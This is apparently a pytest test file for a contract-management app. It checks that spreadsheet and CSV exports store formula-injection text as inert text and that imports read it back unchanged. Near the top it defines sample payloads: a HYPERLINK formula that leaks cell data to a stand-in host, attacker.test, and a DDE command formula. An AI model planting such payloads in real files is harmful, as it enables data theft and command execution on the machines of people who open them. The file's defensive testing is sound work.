"""Spreadsheet formula injection: exports never turn a user's text into a live formula, and
imports read such text back as the text it is (real files, written and read back)."""

from __future__ import annotations

import csv
from datetime import date
from decimal import Decimal
from pathlib import Path

import pytest
from openpyxl import load_workbook

from coopdesk import files
from coopdesk.domain.spreadsheet import neutralise, restore
from coopdesk.io.contracts_export import export_contracts
from coopdesk.io.contracts_import import import_contracts
from coopdesk.io.table_writer import OutSheet, write_table
from coopdesk.services import contract_reads, specialists
from coopdesk.services.audit_log import AuditFilter, audit_entries
from coopdesk.services.imports import RowStatus
from coopdesk.ui.audit_text import csv_table

from .conftest import hire
from .files import ENGLISH, write_csv

#: Texts a spreadsheet would run: a link that leaks data, a command, a function, a sign.
LINK = '=HYPERLINK("http://attacker.test/?"&A1,"Ana")'
COMMAND = "=cmd|' /C calc'!A0"
HOSTILE = {
    "full_name": LINK,
    "email": "@ana@example.org",
    "position": "+Analyst",
    "validity_exception": COMMAND,
}
#: Text already beginning with the apostrophe, which must survive the round trip too.
MARKED_NAME = "'=Luis Pérez"


@pytest.fixture
def hostile(db, frame) -> None:
    hire(db, frame, fee="2600", **HOSTILE)
    hire(db, frame, full_name=MARKED_NAME, position="-", fee="3100.50")


def _export(db, frame, path: Path) -> Path:
    with db.unit_of_work() as uow:
        export_contracts(uow, frame.program_id, path, date(2014, 6, 1))
    return path


def _reimport(db, frame, path: Path) -> list[tuple[str, RowStatus, str]]:
    with db.unit_of_work("tester") as uow:
        plan = import_contracts(uow, frame.program_id, path, dry_run=True)
    return [(r.key, r.status, r.detail) for r in plan.rows]


def test_xlsx_export_writes_text_cells_never_formulas(db, frame, hostile, tmp_path) -> None:
    path = _export(db, frame, tmp_path / "contracts.xlsx")
    sheet = load_workbook(path)["Contracts"]
    header = [c.value for c in sheet[1]]
    by_reference = {r[0].value: r for r in sheet.iter_rows(min_row=2)}
    row = {header[i]: cell for i, cell in enumerate(by_reference["SC-2014-001"])}
    for label, text in (("Name", LINK), ("E-mail", "@ana@example.org"),
                        ("Position", "+Analyst"), ("Validity exception", COMMAND)):
        assert (row[label].data_type, row[label].value) == ("s", text), label
    assert row["Monthly fee"].data_type == "n" and row["Monthly fee"].value == 2600
    formulas = [c.coordinate for r in sheet.iter_rows() for c in r if c.data_type == "f"]
    assert formulas == []


def test_csv_export_marks_text_that_a_spreadsheet_would_run(db, frame, hostile,
                                                            tmp_path) -> None:
    path = _export(db, frame, tmp_path / "contracts.csv")
    with path.open(encoding="utf-8-sig", newline="") as handle:
        header, *rows = list(csv.reader(handle))
    by_reference = {row[0]: dict(zip(header, row, strict=True)) for row in rows}
    first = by_reference["SC-2014-001"]
    assert first["Name"] == "'" + LINK
    assert first["E-mail"] == "'@ana@example.org"
    assert first["Position"] == "'+Analyst"
    assert first["Validity exception"] == "'" + COMMAND
    assert first["Monthly fee"] == "2600.00"
    second = by_reference["SC-2014-002"]
    assert (second["Name"], second["Position"]) == ("''=Luis Pérez", "'-")
    dangerous = [cell for row in rows for cell in row if cell[:1] in ("=", "+", "@")]
    assert dangerous == []


@pytest.mark.parametrize("suffix", [".xlsx", ".csv"])
def test_an_export_imported_back_changes_nothing(db, frame, hostile, tmp_path,
                                                 suffix: str) -> None:
    path = _export(db, frame, tmp_path / f"contracts{suffix}")
    assert sorted(_reimport(db, frame, path)) == [
        ("SC-2014-001", RowStatus.UNCHANGED, ""), ("SC-2014-002", RowStatus.UNCHANGED, "")]


def test_a_marked_csv_cell_imports_as_its_text(db, frame, tmp_path) -> None:
    unit = "Dirección Ejecutiva"
    path = write_csv(tmp_path / "c.csv", [
        ",".join(ENGLISH),
        f"SC-2014-001,'=1+2 Ana,{unit},'@lead,01/01/2014,31/12/2014,2500,C1",
    ])
    with db.unit_of_work("tester") as uow:
        plan = import_contracts(uow, frame.program_id, path)
        assert [r.status for r in plan.rows] == [RowStatus.NEW], plan.rows
        uow.commit()
    with db.unit_of_work() as uow:
        (contract,) = contract_reads.list_contracts(uow, frame.program_id)
        person = specialists.get_specialist(uow, contract.specialist_id)
    assert (person.full_name, contract.position) == ("=1+2 Ana", "@lead")


def test_a_csv_cell_holding_a_bare_formula_is_still_refused(db, frame, tmp_path) -> None:
    path = write_csv(tmp_path / "c.csv", [
        ",".join(ENGLISH),
        "SC-2014-001,=A1&A2,Dirección Ejecutiva,Analyst,01/01/2014,31/12/2014,2500,C1",
    ])
    with db.unit_of_work("tester") as uow:
        plan = import_contracts(uow, frame.program_id, path, dry_run=True)
    assert "column “Name”: holds a formula" in plan.rows[0].detail


@pytest.mark.parametrize("suffix", [".xlsx", ".csv"])
def test_negative_amounts_stay_numbers(tmp_path, suffix: str) -> None:
    path = tmp_path / f"amounts{suffix}"
    write_table(path, [OutSheet("Amounts", ["What", "Amount", "Days"],
                                [["-refund", Decimal("-1250.50"), -3]])])
    if suffix == ".xlsx":
        cells = list(load_workbook(path)["Amounts"].iter_rows(min_row=2))[0]
        assert [(c.data_type, c.value) for c in cells] == [
            ("s", "-refund"), ("n", -1250.5), ("n", -3)]
    else:
        lines = path.read_text(encoding="utf-8-sig").splitlines()
        assert lines[1] == "'-refund,-1250.50,-3"


def test_audit_export_marks_names_and_values_but_not_numbers(db, frame, tmp_path) -> None:
    with db.unit_of_work("@admin") as uow:
        sid = specialists.create_specialist(uow, frame.program_id, full_name="=SUM(1,2)")
        uow.commit()
    with db.unit_of_work("@admin") as uow:
        specialists.update_specialist(uow, sid, expected_version=None, full_name="-Ana",
                                      notes="+52 55 1234 5678")
        uow.commit()
    with db.unit_of_work() as uow:
        entries = audit_entries(uow, AuditFilter(entity="specialist")).entries
    path = tmp_path / "audit.csv"
    files.write_csv(path, csv_table(entries))
    with path.open(encoding="utf-8-sig", newline="") as handle:
        rows = list(csv.DictReader(handle))
    assert {r["Who"] for r in rows} == {"'@admin"}
    changed = {(r["Action"], r["Field"]): (r["From"], r["To"]) for r in rows}
    assert changed[("Insert", "Name")][1] == "'=SUM(1,2)"
    assert changed[("Update", "Name")] == ("'=SUM(1,2)", "'-Ana")
    assert changed[("Update", "Notes")] == ("", "'+52 55 1234 5678")
    assert changed[("Insert", "Program")] == ("", "PROCAP")


@pytest.mark.parametrize("text", [
    "", "plain", "=1+1", "+1", "-", "@x", "\tx", "'", "'a", "'=x", "''", "'''=x", "a=b",
])
def test_neutralised_text_always_comes_back(text: str) -> None:
    cell = neutralise(text)
    assert cell[:1] not in ("=", "+", "-", "@", "\t", "\r")
    assert restore(cell) == text
